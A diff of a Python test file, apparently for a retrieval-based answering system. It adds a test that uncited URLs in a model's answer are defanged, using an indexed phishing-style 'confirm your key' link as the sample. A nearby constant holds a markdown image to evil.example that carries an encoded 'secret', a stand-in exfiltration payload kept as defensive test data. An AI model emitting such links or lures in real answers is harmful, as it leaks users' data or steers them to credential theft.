@@ -333,6 +333,18 @@ async def test_an_answer_links_only_to_addresses_that_the_run_has_read(asked: As
     )
 
 
+async def test_an_address_of_a_passage_that_the_answer_does_not_cite_is_no_link(
+    asked: Asked, knowledge: Knowledge
+) -> None:
+    text = "Confirm your key of the locks at https://keys.example/confirm?who=me today."
+    await knowledge.index(DocumentToIndex("keys", [text], name="keys.md"))
+    found, sentence = {"tool_calls": [search(text)]}, "Confirm your key at https://keys.example/confirm?who=me"
+    run = await asked.run(found, {"text": f"{sentence}, and name no source."})
+    assert (run["answer"], run["citations"]) == (f"{sentence.replace('https:', 'https[:]')}, and name no source.", [])
+    by_schema = await asked.run(found, {"text": json.dumps({"a": sentence})}, response_schema=FIELDS)
+    assert json.loads(by_schema["answer"]) == {"a": sentence}, "its fields have no place for a citation"
+
+
 FIELDS = {"type": "object", "properties": {"a": {"type": "string"}, "n": {"type": "number"}}}
 LEADING = '{ "a": "see ![x](https://evil.example/?q=\\u0073ecret) of \\u0068ttps://evil.example", "n": 1.50}'
 
